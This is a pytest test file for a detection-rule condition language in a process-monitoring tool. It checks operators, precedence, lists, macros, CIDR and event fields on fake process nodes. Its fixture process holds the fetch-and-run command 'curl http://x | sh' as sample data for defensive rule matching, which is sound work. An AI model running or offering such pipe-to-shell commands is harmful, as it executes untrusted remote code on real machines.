"""Condition language: every operator, precedence, lists, macros, CIDR, on real nodes."""

from __future__ import annotations

import pytest
from rules_support import check, proc

from spyderd.model.events import ConnectEvent, ExecEvent, ExitEvent, ListenEvent
from spyderd.rules import DictContext

SH = proc(
    "sh",
    "/bin/sh",
    pid=42,
    args=["sh", "-c", "curl http://x | sh"],
    listen_ports=[8080],
    accepts=3,
    container_id="c0ffee",
)
SH.uid = 1000


def conn(remote_ip: str, remote_port: int = 443, family: int = 4) -> ConnectEvent:
    return ConnectEvent(
        time=1,
        pid=42,
        family=family,
        local_ip="10.1.1.1",
        local_port=5000,
        remote_ip=remote_ip,
        remote_port=remote_port,
    )


@pytest.mark.parametrize(
    "condition, expected",
    [
        ("process.name = sh", True),
        ("process.name = bash", False),
        ("process.name != bash", True),
        ("process.name = 'sh'", True),
        ('process.exe = "/bin/sh"', True),
        ("process.exe = /bin/sh", True),
        ("process.pid = 42", True),
        ("process.pid != 42", False),
        ("process.pid < 43", True),
        ("process.pid <= 42", True),
        ("process.pid > 42", False),
        ("process.pid >= 42", True),
        ("process.uid > -1", True),
        ("process.cmdline contains 'curl http'", True),
        ("process.cmdline icontains 'CURL'", True),
        ("process.cmdline contains 'CURL'", False),
        ("process.exe startswith /bin/", True),
        ("process.exe endswith /sh", True),
        ("process.exe startswith /usr", False),
        ("process.exe glob '/bin/*'", True),
        ("process.exe glob '/bin/?h'", True),
        ("process.exe glob '/usr/*'", False),
        (r"process.cmdline matches '^sh -c \w+ http'", True),
        (r'process.cmdline matches "\d"', False),
        ("process.args contains -c", True),
        ("process.args contains '-'", False),
        ("process.args icontains '-C'", True),
        ("process.args in (-x, -c)", True),
        ("process.args in (-x)", False),
        ("process.name in (bash, sh, zsh)", True),
        ("process.name in ('bash', \"zsh\")", False),
        ("process.name in ()", False),
        ("process.pid in (1, 42)", True),
        ("process.exe exists", True),
        ("process.cwd exists", False),
        ("process.container_id = c0ffee", True),
        ("process.listening", True),
        ("process.listening = true", True),
        ("process.listening = false", False),
        ("process.accepts >= 3", True),
        ("process.id = sh", True),
        ("user.uid = 1000", True),
    ],
)
def test_operator(condition: str, expected: bool) -> None:
    assert check(condition, SH) is expected


@pytest.mark.parametrize(
    "condition, expected",
    [
        # not > and > or
        ("process.name = x or process.name = sh and process.pid = 1", False),
        ("(process.name = x or process.name = sh) and process.pid = 42", True),
        ("process.name = sh or process.name = x and process.pid = 1", True),
        ("not process.name = x and process.pid = 42", True),
        ("not (process.name = sh and process.pid = 1)", True),
        ("not process.name = sh or process.pid = 42", True),
        ("not not process.name = sh", True),
        ("((process.name = sh))", True),
    ],
)
def test_precedence_and_parentheses(condition: str, expected: bool) -> None:
    assert check(condition, SH) is expected


def test_missing_value_makes_every_comparison_false() -> None:
    """A missing field is neither equal nor unequal to anything; `exists` says it is missing."""
    bare = proc("x", "/bin/true", args=None)
    bare.attrs.pop("args")
    assert check("process.cmdline = ''", bare) is False
    assert check("process.cmdline != ''", bare) is False
    assert check("not process.cmdline exists", bare) is True


def test_string_escapes_and_keywords_as_quoted_values() -> None:
    node = proc("q", "/opt/and", args=['say "hi"\tnow'])
    assert check("process.name = 'and'", node)
    assert check(r'process.cmdline = "say \"hi\"\tnow"', node)


def test_named_lists_expand_inline_and_alone() -> None:
    lists = {"shells": ["sh", "bash"], "more": ["shells", "zsh"]}
    assert check("process.name in shells", SH, lists=lists)
    assert check("process.name in (shells)", SH, lists=lists)
    assert check("process.name in (zsh, shells)", SH, lists=lists)
    assert check("process.name in more", SH, lists=lists), "a list item naming a list expands"
    assert not check("process.name in (shellz)", SH, lists=lists), "not a list: a literal"


def test_int_lists_and_int_items_for_str_fields() -> None:
    assert check("process.pid in ports", SH, lists={"ports": [42, "43"]})
    node = proc("n", "/usr/bin/8080")
    assert check("process.name in ports", node, lists={"ports": [8080]})


def test_macros_expand_and_nest() -> None:
    macros = {
        "is_shell": "process.name in (sh, bash)",
        "shell_42": "is_shell and pid42",
        "pid42": "process.pid = 42",
    }
    assert check("shell_42", SH, macros=macros)
    assert not check("not is_shell", SH, macros=macros)


@pytest.mark.parametrize(
    "condition, expected",
    [
        ("connection.remote_ip in (10.0.0.0/8)", True),
        ("connection.remote_ip in (192.168.0.0/16, 10.2.3.4)", True),
        ("connection.remote_ip in (192.168.0.0/16)", False),
        ("connection.remote_ip = 10.2.3.4", True),
        ("connection.remote_ip != 10.2.3.4", False),
        ("connection.remote_ip in (fd00::/8)", False),
        ("connection.remote_port = 443", True),
        ("connection.family = 4", True),
        ("connection.local_ip in (10.1.0.0/16)", True),
        ("evt.kind = connect", True),
    ],
)
def test_ip_fields_and_cidr(condition: str, expected: bool) -> None:
    assert check(condition, SH, ev=conn("10.2.3.4")) is expected


def test_ipv6_cidr_and_mapped_ipv4() -> None:
    assert check("connection.remote_ip in (fd00::/8)", SH, ev=conn("fd12::1", family=6))
    assert check("connection.remote_ip in (10.0.0.0/8)", SH, ev=conn("::ffff:10.0.0.7", family=6))
    assert not check("connection.remote_ip in (10.0.0.0/8)", SH, ev=conn("not-an-ip"))


def test_event_fields_by_kind() -> None:
    exit_ev = ExitEvent(time=5, pid=42, code=3, signal=9)
    assert check("exit.code = 3 and exit.signal = 9 and evt.kind = exit", SH, ev=exit_ev)
    assert not check("connection.remote_port exists", SH, ev=exit_ev)
    listen = ListenEvent(time=5, pid=42, family=4, local_ip="0.0.0.0", local_port=80)
    assert check("connection.local_port = 80 and not connection.remote_ip exists", SH, ev=listen)


def test_exec_event_fills_exe_and_args_missing_on_node() -> None:
    node = proc("e", "/bin/true")
    node.attrs.clear()
    ev = ExecEvent(time=1, pid=7, filename="/usr/bin/curl", args=["curl", "-s"], comm="curl")
    assert check("process.name = curl and process.cmdline = 'curl -s'", node, ev=ev)


def test_parent_fields_read_the_parent_image() -> None:
    web = proc("w", "/usr/sbin/nginx", pid=7, args=["nginx", "-g", "daemon off;"])
    child = proc("c", "/bin/sh", web, pid=8)
    ctx = DictContext.of(web, child)
    assert check(
        "parent.name = nginx and parent.pid = 7 and parent.cmdline contains daemon", child, ctx
    )
    assert check("parent.exe = /usr/sbin/nginx", child, ctx)
    assert not check("parent.name exists", web, ctx), "the root has no parent"
